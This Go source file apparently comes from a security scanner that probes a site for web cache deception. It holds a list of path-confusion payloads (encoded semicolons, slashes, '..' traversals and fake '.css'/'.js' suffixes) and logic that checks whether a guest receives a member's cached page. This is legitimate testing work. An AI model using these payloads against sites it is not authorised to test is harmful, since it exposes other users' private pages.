package cacheleak

import (
	"context"
	"slices"
	"strings"
)

// deceptions are addresses that some origins take for the page and some caches for a static file (web cache deception).
// NAME is random and serves as the cache buster: rules for static files often ignore the query.
var deceptions = []string{
	"PATH/NAME.css", "PATH;NAME.css", "PATH%3BNAME.css", "PATH%2FNAME.css", "PATH%3FNAME.css", "PATH%23NAME.css",
	"PATH/NAME.js", "PATH/NAME.jpg", "/static/NAME%2F..%2F..PATH", "/assets/NAME%2F..%2F..PATH",
}

// mostFolders is how many folders of the page's own files are tried.
const mostFolders = 4

// below are addresses that some caches take for files in folders, and some origins for the page.
func below(folders []string) []string {
	var list []string
	for _, folder := range folders[:min(len(folders), mostFolders)] {
		list = append(list, folder+"/NAME"+strings.Repeat("%2F..", strings.Count(folder, "/")+1)+"PATH")
	}
	return list
}

// deception asks for such addresses as a member, also for some in the folders from which the page loads its files. Only
// those that bring the member's page are asked for as a guest.
func (g *gatherer) deception(ctx context.Context, r *references, folders []string) (*leak, error) {
	member := g.members[0]
	marks := r.markers(member.name)
	for _, pattern := range slices.Concat(deceptions, below(folders)) {
		got, err := g.deceive(ctx, pattern, unguessableKey(), member)
		if err != nil {
			return nil, err
		}
		if !got.holdsAny(marks) {
			continue
		}
		var seen []*crossUser
		for range enough {
			c, err := g.deceived(ctx, r, pattern)
			if err != nil {
				return nil, err
			}
			if c == nil {
				break
			}
			seen = append(seen, c)
		}
		if l := leakOf(seen); l != nil {
			l.via, l.detail = "deception", pattern
			return l, nil
		}
	}
	return nil, nil
}

// deceived has the member and then a guest ask for one such address, and the guest for another one between.
func (g *gatherer) deceived(ctx context.Context, r *references, pattern string) (*crossUser, error) {
	member, name := g.members[0], unguessableKey()
	var fills []*observation
	for range 2 {
		got, err := g.deceive(ctx, pattern, name, member)
		if err != nil {
			return nil, err
		}
		fills = append(fills, got)
	}
	control, err := g.deceive(ctx, pattern, unguessableKey(), g.guest)
	if err != nil {
		return nil, err
	}
	got, err := g.deceive(ctx, pattern, name, g.guest)
	if err != nil {
		return nil, err
	}
	return r.crossed(fills, got, control), nil
}

func (g *gatherer) deceive(ctx context.Context, pattern, name string, v visitor) (*observation, error) {
	path := strings.TrimSuffix(g.page.EscapedPath(), "/")
	target := strings.NewReplacer("PATH", path, "NAME", name).Replace(pattern)
	if g.page.RawQuery != "" {
		target += "?" + g.page.RawQuery
	}
	u := *g.page
	return g.ask(ctx, v, name, v.request(&u, target))
}
